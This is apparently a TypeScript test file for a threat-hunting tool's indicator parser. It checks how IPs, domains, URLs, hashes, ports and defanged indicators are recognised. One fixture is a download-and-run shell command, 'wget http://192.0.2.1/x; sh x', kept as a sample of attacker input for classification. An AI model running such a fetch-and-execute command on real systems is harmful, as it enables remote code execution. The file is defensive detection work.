import fc from "fast-check";
import {describe, expect, it} from "vitest";
import {readAsType, recogniseTerm} from "../../../src/engine/hunt/recognise-term.js";
import {termTypes, writeTerm} from "../../../src/engine/hunt/term.js";

const typeOf = (text: string, isUser?: (name: string) => boolean) => recogniseTerm(text, isUser)?.type;

/** As reports write indicators, so that nobody clicks on them. */
const defang = (text: string) => text.replace(/^http/, "hxxp").replace("://", "[:]//").replaceAll(".", "[.]");

/** Any UTF-16 at all, lone surrogates included. */
const anyText = fc.array(fc.nat(0xffff), {maxLength: 80}).map(codes => String.fromCharCode(...codes));
const octet = fc.integer({min: 0, max: 255});
const ipv4 = fc.tuple(octet, octet, octet, octet).map(parts => parts.join("."));
const label = fc.stringMatching(/^[a-z][a-z0-9]{0,9}[a-z]$/);
const domain = fc
  .tuple(fc.array(label, {minLength: 2, maxLength: 4}), fc.constantFrom("com", "example", "org", "net", "cn"))
  .map(([labels, top]) => [...labels, top].join("."));
const hash = fc
  .constantFrom(32, 40, 64)
  .chain(length =>
    fc
      .array(fc.constantFrom(..."0123456789abcdef"), {minLength: length, maxLength: length})
      .map(digits => digits.join(""))
  );
const url = fc
  .tuple(fc.constantFrom("http", "https"), domain, fc.stringMatching(/^[a-z0-9]{1,8}(\/[a-z0-9]{1,8}){0,2}$/))
  .map(([scheme, host, path]) => `${scheme}://${host}/${path}`);

describe("a term", () => {
  it.each([
    ["8.8.8.8", "address", "8.8.8.8"],
    ["8.8.8.8:53", "address", "8.8.8.8"],
    ["2001:DB8:0:0::1", "address", "2001:db8::1"],
    ["192.0.2.77/24", "network", "192.0.2.0/24"],
    ["192.0.2.*", "network", "192.0.2.0/24"],
    ["2001:db8::7/32", "network", "2001:db8::/32"],
    ["192.0.2.1/32", "network", "192.0.2.1/32"],
    ["evil[.]example", "domain", "evil.example"],
    ["Evil.Example.", "domain", "evil.example"],
    ["hxxps://evil[.]example/x?y=1", "url", "evil.example/x?y=1"],
    ["evil.example/x.sh", "url", "evil.example/x.sh"],
    ["D41D8CD98F00B204E9800998ECF8427E", "hash", "d41d8cd98f00b204e9800998ecf8427e"],
    ["22", "port", "22"],
    ["port 2222", "port", "2222"],
    ["tcp/445", "port", "445"],
    ["someone(at)host.example", "user", "someone@host.example"],
    ["wget http://192.0.2.1/x; sh x", "command", "wget http://192.0.2.1/x; sh x"],
    ["/bin/busybox ABCDE", "command", "/bin/busybox ABCDE"],
    ["uname -a", "command", "uname -a"],
    ["Mozilla/5.0 (X11; Linux x86_64)", "text", "Mozilla/5.0 (X11; Linux x86_64)"],
    ["update.bin", "text", "update.bin"],
    ["/etc/passwd", "text", "/etc/passwd"],
    ["99999", "text", "99999"],
    ["1.2.3.4.5", "text", "1.2.3.4.5"],
    ["192.0.2.0/40", "text", "192.0.2.0/40"]
  ])("%s is taken for %s", (written, type, value) => {
    expect(recogniseTerm(written)).toMatchObject({type, value});
  });

  it("is an account's name where the data have such an account, and free text otherwise", () => {
    expect(typeOf("root")).toBe("text");
    expect(typeOf("root", name => name === "root")).toBe("user");
    expect(typeOf("john.smith", name => name === "john.smith")).toBe("user");
    expect(typeOf("192.0.2.1", () => true)).toBe("address");
  });

  it("is what the word before it says, where it can be that", () => {
    expect(recogniseTerm("text:22")).toMatchObject({type: "text", value: "22"});
    expect(recogniseTerm("user:root")).toMatchObject({type: "user", value: "root"});
    expect(recogniseTerm("JA3:d41d8cd98f00b204e9800998ecf8427e")).toMatchObject({type: "ja3"});
    expect(recogniseTerm("ip:192[.]0[.]2[.]1")).toMatchObject({type: "address", value: "192.0.2.1"});
    expect(recogniseTerm("port:http")).toMatchObject({type: "text", value: "port:http"});
    expect(recogniseTerm('"22"')).toMatchObject({type: "text", value: "22"});
  });

  it("is null of nothing but white space", () => {
    expect(recogniseTerm(" \t\n")).toBeNull();
  });

  it("never throws, and is what it can be read as", () => {
    const anything = fc.oneof(anyText, fc.string(), ipv4, domain, url, hash, ipv4.map(defang));
    fc.assert(
      fc.property(anything, written => {
        const term = recogniseTerm(written);
        if (term === null) return written.trim() === "";
        expect(term.types).toContain(term.type);
        expect(new Set(term.types).size).toBe(term.types.length);
        for (const type of term.types) {
          const value = readAsType(type, term.text);
          expect(value).not.toBeNull();
        }
        return termTypes.includes(term.type);
      }),
      {numRuns: 300}
    );
  });

  it("can be retyped as anything that it may be, and is that when read again", () => {
    fc.assert(
      fc.property(fc.oneof(ipv4, domain, url, hash, fc.stringMatching(/^[\w ./;-]{1,30}$/)), written => {
        const term = recogniseTerm(written);
        for (const type of term?.types ?? []) {
          if (term === null) return;
          expect(recogniseTerm(writeTerm({...term, type}))?.type).toBe(type);
        }
      }),
      {numRuns: 300}
    );
  });

  it("is the same defanged", () => {
    fc.assert(
      fc.property(fc.oneof(ipv4, domain, url), written => {
        const {type, value} = recogniseTerm(written) ?? {};
        expect(recogniseTerm(defang(written))).toMatchObject({type, value});
      }),
      {numRuns: 300}
    );
  });

  it("generated is told by its kind", () => {
    fc.assert(
      fc.property(
        ipv4,
        domain,
        url,
        hash,
        fc.integer({min: 0, max: 31}),
        (address, name, link, sum, length) => {
          expect(typeOf(address)).toBe("address");
          expect(typeOf(`${address}/${length}`)).toBe("network");
          expect(typeOf(name)).toBe("domain");
          expect(typeOf(link)).toBe("url");
          expect(typeOf(sum)).toBe("hash");
        }
      ),
      {numRuns: 300}
    );
  });

  it("of IPv6 is told in any of its spellings", () => {
    fc.assert(
      fc.property(fc.ipV6(), address => {
        expect(typeOf(address)).toBe("address");
      })
    );
  });
});
